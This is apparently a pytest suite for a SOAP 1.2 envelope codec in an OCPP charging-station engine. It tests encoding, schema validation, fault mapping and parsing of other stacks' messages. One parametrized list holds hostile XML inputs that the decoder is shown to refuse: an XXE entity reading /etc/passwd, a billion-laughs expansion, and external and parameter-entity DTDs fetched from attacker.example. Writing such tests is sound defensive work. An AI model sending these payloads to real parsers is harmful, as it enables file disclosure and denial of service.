"""SOAP 1.2 envelopes: writing, reading, refusing, faults; xmlschema as the oracle."""

from __future__ import annotations

import functools
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element, SubElement, tostring

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ocpp_engine.soap import FAULTS, Fault, SoapError, SoapMessage, callerror_of, fault_for
from ocpp_engine.soap._envelope import (
    ANONYMOUS,
    DEFAULT_MAX_DEPTH,
    FAULT_ACTION,
    SOAP_NS,
    WSA_NS,
    action_uri,
    decode,
    encode,
    http_status,
    split_action,
)

ROOT = Path(__file__).resolve().parent.parent
HERE = Path(__file__).resolve().parent / "soap"
CS16 = "urn://Ocpp/Cs/2015/10/"
CP15 = "urn://Ocpp/Cp/2012/06/"
WSDLS = {
    CS16: "OCPP_CentralSystemService_1.6.wsdl",
    "urn://Ocpp/Cp/2015/10/": "OCPP_ChargePointService_1.6.wsdl",
    "urn://Ocpp/Cs/2012/06/": "OCPP_CentralSystemService_1.5.wsdl",
    CP15: "OCPP_ChargePointService_1.5.wsdl",
}


@functools.cache
def envelope_schema() -> Any:
    xmlschema = pytest.importorskip("xmlschema")
    return xmlschema.XMLSchema([str(HERE / "soap12-envelope.xsd"), str(HERE / "ws-addressing.xsd")])


@functools.cache
def ocpp_schema(namespace: str) -> Any:
    """The XSD inline in the OCA WSDL of *namespace* (None when the WSDLs are not there)."""
    xmlschema = pytest.importorskip("xmlschema")
    lxml = pytest.importorskip("lxml.etree")
    path = ROOT / "schemas" / "wsdl" / WSDLS[namespace]
    if not path.exists():
        return None
    element = lxml.parse(str(path)).find(".//{http://www.w3.org/2001/XMLSchema}schema")
    return xmlschema.XMLSchema(lxml.tostring(element).decode())


def assert_valid(data: bytes) -> None:
    """Check an envelope we wrote against the SOAP 1.2 and WS-Addressing schemas, and its body
    and chargeBoxIdentity header against the OCPP XSD of their namespace."""
    text = data.decode("utf-8")
    envelope_schema().validate(text)
    message = decode(data)
    if message.body is not None and message.body.tag.startswith("{urn://Ocpp/"):
        namespace = message.body.tag[1:].partition("}")[0]
        schema = ocpp_schema(namespace)
        if schema is not None:
            schema.validate(tostring(message.body, encoding="unicode"))
            if message.identity is not None:
                header = Element(f"{{{namespace}}}chargeBoxIdentity")
                header.text = message.identity
                schema.validate(tostring(header, encoding="unicode"))


def heartbeat(namespace: str = CS16) -> Element:
    return Element(f"{{{namespace}}}heartbeatRequest")


def boot() -> Element:
    body = Element(f"{{{CS16}}}bootNotificationRequest")
    SubElement(body, f"{{{CS16}}}chargePointVendor").text = "V & <Co>"
    SubElement(body, f"{{{CS16}}}chargePointModel").text = "M"
    return body


def same_element(a: Element | None, b: Element | None) -> bool:
    if a is None or b is None:
        return a is b
    return tostring(a) == tostring(b)


MESSAGES = [
    pytest.param(
        SoapMessage(
            "/BootNotification",
            "urn:uuid:1",
            boot(),
            identity="CP-1",
            to="http://cs.example/ocpp",
            from_="http://cp.example:8080/",
            reply_to=ANONYMOUS,
        ),
        id="request-with-every-header",
    ),
    pytest.param(
        SoapMessage("/HeartbeatResponse", "m2", heartbeat(), relates_to="urn:uuid:1"),
        id="response",
    ),
    pytest.param(
        SoapMessage(
            "/ClearCache", None, Element(f"{{{CP15}}}clearCacheRequest"), identity="<&>\"'"
        ),
        id="escaped-identity",
    ),
    pytest.param(
        SoapMessage(
            FAULT_ACTION,
            "m3",
            None,
            relates_to="m1",
            fault=Fault("Sender", "IdentityMismatch", "x"),
        ),
        id="fault",
    ),
    pytest.param(
        SoapMessage(FAULT_ACTION, None, None, fault=Fault("VersionMismatch", None, "<1.1>")),
        id="fault-without-subcode",
    ),
]


@pytest.mark.parametrize("message", MESSAGES)
def test_what_we_write_reads_back_and_passes_the_schemas(message: SoapMessage) -> None:
    data = encode(message)
    assert_valid(data)
    back = decode(data)
    assert same_element(back.body, message.body)
    assert attrs_without_body(back) == attrs_without_body(message)


def attrs_without_body(message: SoapMessage) -> tuple[Any, ...]:
    return (
        message.action,
        message.message_id,
        message.identity,
        message.relates_to,
        message.to,
        message.from_,
        message.reply_to,
        message.fault,
    )


def test_the_oracle_can_fail() -> None:
    data = encode(MESSAGES[3].values[0])  # type: ignore[index]
    with pytest.raises(Exception, match=r"Value|QName|enumeration"):
        envelope_schema().validate(data.decode().replace("s:Sender", "s:Nobody"))
    schema = ocpp_schema(CS16)
    if schema is not None:
        with pytest.raises(Exception, match=r"chargePointModel|content"):
            schema.validate(f'<bootNotificationRequest xmlns="{CS16}"/>')


def test_the_body_is_written_with_a_default_namespace() -> None:
    text = encode(SoapMessage("/Heartbeat", "1", heartbeat(), identity="CP")).decode()
    assert (
        f'<heartbeatRequest xmlns="{CS16}" />' in text
        or f'<heartbeatRequest xmlns="{CS16}"/>' in text
    )
    assert f'<chargeBoxIdentity xmlns="{CS16}">CP</chargeBoxIdentity>' in text
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>')


def test_a_body_with_unqualified_attributes_is_written_with_a_prefix() -> None:
    """1.5's meter values carry their unit and measurand as unqualified attributes."""
    namespace = "urn://Ocpp/Cs/2012/06/"
    body = Element(f"{{{namespace}}}meterValuesRequest")
    SubElement(body, f"{{{namespace}}}connectorId").text = "1"
    values = SubElement(body, f"{{{namespace}}}values")
    SubElement(values, f"{{{namespace}}}timestamp").text = "2024-01-01T00:00:00Z"
    SubElement(values, f"{{{namespace}}}value", unit="kWh").text = "12"
    data = encode(SoapMessage("/MeterValues", "1", body, identity="CP"))
    assert_valid(data)
    back = decode(data).body
    assert back is not None and same_element(back, body)


def test_characters_xml_cannot_carry_are_replaced() -> None:
    fault = Fault("Receiver", "InternalError", "bad\x00byte\x1b[31m")
    data = encode(SoapMessage(FAULT_ACTION, "id\x01", None, fault=fault))
    assert_valid(data)
    back = decode(data)
    assert back.fault is not None and back.fault.reason == "bad\ufffdbyte\ufffd[31m"
    assert back.message_id == "id\ufffd"


def test_a_message_needs_a_body_or_a_fault_and_an_identity_a_namespace() -> None:
    with pytest.raises(ValueError):
        encode(SoapMessage("/X", "1", None))
    with pytest.raises(ValueError):
        encode(SoapMessage("/X", "1", heartbeat(), fault=Fault("Sender", None)))
    with pytest.raises(ValueError):
        encode(SoapMessage("/X", "1", Element("plain"), identity="CP"))


# -- reading what others write -----------------------------------------------------------------

CXF_STYLE = f"""<?xml version='1.0' encoding='UTF-8'?>
<soap:Envelope xmlns:soap="{SOAP_NS}">
  <soap:Header>
    <chargeBoxIdentity xmlns="{CS16}" soap:mustUnderstand="true">CP 7</chargeBoxIdentity>
    <Action xmlns="{WSA_NS}">/Heartbeat</Action>
    <MessageID xmlns="{WSA_NS}">urn:uuid:42</MessageID>
    <To xmlns="{WSA_NS}">http://cs/</To>
    <ReplyTo xmlns="{WSA_NS}"><Address>{ANONYMOUS}</Address></ReplyTo>
    <From xmlns="{WSA_NS}"><Address>http://10.0.0.7:8080/</Address></From>
    <!-- a comment -->
    <Other xmlns="urn:x" soap:mustUnderstand="false">ignored</Other>
  </soap:Header>
  <soap:Body><ns2:heartbeatRequest xmlns:ns2="{CS16}"/></soap:Body>
</soap:Envelope>""".encode()


def test_headers_in_any_prefix_and_order_are_read() -> None:
    message = decode(CXF_STYLE)
    assert message.identity == "CP 7"
    assert message.action == "/Heartbeat"
    assert message.message_id == "urn:uuid:42"
    assert message.from_ == "http://10.0.0.7:8080/"
    assert message.reply_to == ANONYMOUS
    assert message.to == "http://cs/"
    assert message.body is not None and message.body.tag == f"{{{CS16}}}heartbeatRequest"


BAD: list[Any] = [
    pytest.param(b"<s:Envelope", "Sender", "ProtocolError", id="malformed"),
    pytest.param(b"", "Sender", "ProtocolError", id="empty"),
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
        "Sender",
        "SecurityError",
        id="xxe",
    ),
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;'
        b'&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;'
        b'&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>',
        "Sender",
        "SecurityError",
        id="billion-laughs",
    ),
    pytest.param(
        b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>',
        "Sender",
        "SecurityError",
        id="external-dtd",
    ),
    pytest.param(
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><x/>',
        "Sender",
        "SecurityError",
        id="parameter-entity",
    ),
    pytest.param(b"<x>&undeclared;</x>", "Sender", "ProtocolError", id="undeclared-entity"),
    pytest.param(
        '<?xml version="1.0" encoding="UTF-16"?><x/>'.encode("utf-16"),
        "Sender",
        "ProtocolError",
        id="utf-16",
    ),
    pytest.param(
        b'<?xml version="1.0" encoding="ISO-8859-1"?><x>\xe9</x>',
        "Sender",
        "ProtocolError",
        id="latin-1",
    ),
    pytest.param(b"<x>\xff</x>", "Sender", "ProtocolError", id="not-utf-8"),
    pytest.param(
        b"<a>" * (DEFAULT_MAX_DEPTH + 1) + b"</a>" * (DEFAULT_MAX_DEPTH + 1),
        "Sender",
        "ProtocolError",
        id="too-deep",
    ),
    pytest.param(b"<x/>", "Sender", "ProtocolError", id="not-an-envelope"),
    pytest.param(
        f'<e:Envelope xmlns:e="{SOAP_NS}x"><e:Body/></e:Envelope>'.encode(),
        "Sender",
        "ProtocolError",
        id="wrong-envelope-namespace",
    ),
    pytest.param(
        b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body/></s:Envelope>',
        "VersionMismatch",
        None,
        id="soap-1.1",
    ),
    pytest.param(
        f'<s:Envelope xmlns:s="{SOAP_NS}"><s:Header/></s:Envelope>'.encode(),
        "Sender",
        "ProtocolError",
        id="no-body",
    ),
    pytest.param(
        f'<s:Envelope xmlns:s="{SOAP_NS}"><s:Body><a/><b/></s:Body></s:Envelope>'.encode(),
        "Sender",
        "ProtocolError",
        id="two-body-elements",
    ),
    pytest.param(
        f'<s:Envelope xmlns:s="{SOAP_NS}"><s:Header><x:Sec xmlns:x="urn:x" s:mustUnderstand="true"/>'
        f"</s:Header><s:Body><a/></s:Body></s:Envelope>".encode(),
        "MustUnderstand",
        None,
        id="must-understand",
    ),
]


@pytest.mark.parametrize(("data", "code", "subcode"), BAD)
def test_bad_input_gets_a_fault(data: bytes, code: str, subcode: str | None) -> None:
    with pytest.raises(SoapError) as caught:
        decode(data)
    assert caught.value.fault.code == code
    assert caught.value.fault.subcode == subcode
    assert caught.value.code in {"ProtocolError", "SecurityError"}


def test_an_oversized_body_is_refused_before_parsing() -> None:
    data = encode(SoapMessage("/Heartbeat", "1", heartbeat()))
    assert decode(data, max_size=len(data)).body is not None
    with pytest.raises(SoapError, match="larger than"):
        decode(data, max_size=len(data) - 1)


@given(st.binary(max_size=300))
def test_random_bytes_raise_nothing_but_soap_error(data: bytes) -> None:
    try:
        decode(data)
    except SoapError as exc:
        assert exc.fault.code in {"Sender", "VersionMismatch", "MustUnderstand"}


XML_TEXT = (
    st.text(
        st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"),
        min_size=1,
        max_size=40,
    )
    .map(str.strip)
    .filter(bool)
)
OPTIONAL = st.none() | XML_TEXT


@given(
    action=OPTIONAL,
    message_id=OPTIONAL,
    identity=OPTIONAL,
    relates_to=OPTIONAL,
    to=OPTIONAL,
    from_=OPTIONAL,
    reply_to=OPTIONAL,
    text=XML_TEXT,
)
def test_any_header_values_round_trip(**values: Any) -> None:
    body = Element(f"{{{CS16}}}dataTransferRequest")
    SubElement(body, f"{{{CS16}}}vendorId").text = values.pop("text")
    message = SoapMessage(body=body, **values)
    back = decode(encode(message))
    assert attrs_without_body(back) == attrs_without_body(message)
    assert same_element(back.body, body)


@given(reason=st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=60))
def test_fault_reasons_round_trip_and_validate(reason: str) -> None:
    fault = Fault("Receiver", "InternalError", reason.strip())
    data = encode(SoapMessage(FAULT_ACTION, None, None, fault=fault))
    assert decode(data).fault == fault


# -- faults and CALLERROR codes ------------------------------------------------------------------


@pytest.mark.parametrize("row", FAULTS, ids=lambda r: r.callerror)
def test_every_callerror_code_travels_as_a_fault_and_back(row: Any) -> None:
    fault = fault_for(row.callerror, "why")
    assert (fault.code, fault.subcode, fault.reason) == (row.code, row.subcode, "why")
    assert callerror_of(fault) == row.callerror
    data = encode(SoapMessage(FAULT_ACTION, None, None, fault=fault))
    assert_valid(data)
    assert callerror_of(decode(data).fault) == row.callerror  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("FormationViolation", ("Sender", "FormatViolation")),
        ("OccurenceConstraintViolation", ("Sender", "OccurrenceConstraintViolation")),
        ("RpcFrameworkError", ("Sender", "ProtocolError")),
        ("MessageTypeNotSupported", ("Sender", "ProtocolError")),
        ("SomethingElse", ("Receiver", "GenericError")),
    ],
)
def test_other_spellings_and_unknown_codes(code: str, expected: tuple[str, str]) -> None:
    fault = fault_for(code)
    assert (fault.code, fault.subcode) == expected


@pytest.mark.parametrize(
    ("fault", "callerror"),
    [
        (Fault("Sender", "IdentityMismatch"), "SecurityError"),
        (Fault("Sender", "UrlMismatch"), "SecurityError"),
        (Fault("Sender", "Whatever"), "ProtocolError"),
        (Fault("Receiver", "Whatever"), "InternalError"),
        (Fault("Receiver", None), "InternalError"),
        (Fault("VersionMismatch", None), "ProtocolError"),
        (Fault("MustUnderstand", None), "ProtocolError"),
    ],
)
def test_received_faults_map_to_callerror_codes(fault: Fault, callerror: str) -> None:
    assert callerror_of(fault) == callerror


@pytest.mark.parametrize(
    ("code", "status"),
    [("Sender", 400), ("Receiver", 500), ("VersionMismatch", 500), ("MustUnderstand", 500)],
)
def test_http_status_of_a_fault(code: str, status: int) -> None:
    assert http_status(Fault(code, None)) == status


def test_a_prefixed_subcode_and_an_unknown_code_are_read() -> None:
    data = (
        f'<s:Envelope xmlns:s="{SOAP_NS}"><s:Body><s:Fault><s:Code><s:Value>s:Weird</s:Value>'
        '<s:Subcode><s:Value xmlns:o="urn:o">o:IdentityMismatch</s:Value></s:Subcode></s:Code>'
        '<s:Reason><s:Text xml:lang="en">' + "r" * 2000 + "</s:Text></s:Reason></s:Fault>"
        "</s:Body></s:Envelope>"
    ).encode()
    fault = decode(data).fault
    assert fault is not None
    assert (fault.code, fault.subcode, len(fault.reason)) == ("Receiver", "IdentityMismatch", 512)


@pytest.mark.parametrize(
    ("uri", "expected"),
    [
        ("/BootNotification", ("BootNotification", False)),
        ("/BootNotificationResponse", ("BootNotification", True)),
        ("urn://Ocpp/Cs/2015/10/Heartbeat", ("Heartbeat", False)),
        ("Response", ("Response", False)),
        ("", ("", False)),
    ],
)
def test_actions(uri: str, expected: tuple[str, bool]) -> None:
    assert split_action(uri) == expected
    if expected[0] and uri.startswith("/"):
        assert action_uri(*expected) == uri


# -- what other stacks send, read liberally -------------------------------------------------------

#: node-soap's own SOAP 1.2 faults: SOAP 1.1's code ``SOAP-ENV:Server`` (its prefix declared
#: nowhere), and in node-soap 0.37 (the one ts-ocpp 2.7.3 runs) and node-soap's documented
#: example a lower-case ``value`` in the subcode.
NODE_SOAP_FAULT = (
    '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="{soap}"><soap:Body>'
    "<soap:Fault><soap:Code><soap:Value>SOAP-ENV:{code}</soap:Value><soap:Subcode>"
    "<soap:{value}>{subcode}</soap:{value}></soap:Subcode></soap:Code>"
    "<soap:Reason><soap:Text>why</soap:Text></soap:Reason></soap:Fault></soap:Body>"
    "</soap:Envelope>"
)


@pytest.mark.parametrize(
    ("code", "value", "subcode", "expected"),
    [
        ("Server", "value", "InternalServerError", ("Receiver", "InternalServerError")),
        ("Client", "Value", "NotSupported", ("Sender", "NotSupported")),
        ("Client", "value", "SecurityError", ("Sender", "SecurityError")),
    ],
)
def test_node_soap_faults_are_read(
    code: str, value: str, subcode: str, expected: tuple[str, str]
) -> None:
    text = NODE_SOAP_FAULT.format(soap=SOAP_NS, code=code, value=value, subcode=subcode)
    fault = decode(text.encode()).fault
    assert fault is not None
    assert (fault.code, fault.subcode, fault.reason) == (*expected, "why")


WSA_2004 = "http://schemas.xmlsoap.org/ws/2004/08/addressing"


def test_ws_addressing_2004_08_headers_are_read_and_understood() -> None:
    data = f"""<soap:Envelope xmlns:soap="{SOAP_NS}" xmlns:w="{WSA_2004}">
      <soap:Header>
        <w:Action soap:mustUnderstand="1">/Heartbeat</w:Action>
        <w:MessageID>uuid:7</w:MessageID>
        <w:From><w:Address>http://10.0.0.7:8080/</w:Address></w:From>
        <w:ReplyTo><w:Address>{WSA_2004}/role/anonymous</w:Address></w:ReplyTo>
        <w:To soap:mustUnderstand="true">http://cs/</w:To>
        <cs:ChargeBoxIdentity xmlns:cs="{CS16}">CP 7</cs:ChargeBoxIdentity>
      </soap:Header>
      <soap:Body><heartbeatRequest xmlns="{CS16}"/></soap:Body>
    </soap:Envelope>""".encode()
    message = decode(data)
    assert (message.action, message.message_id, message.to) == (
        "/Heartbeat",
        "uuid:7",
        "http://cs/",
    )
    assert message.from_ == "http://10.0.0.7:8080/"
    assert message.reply_to == f"{WSA_2004}/role/anonymous"
    assert message.identity == "CP 7"
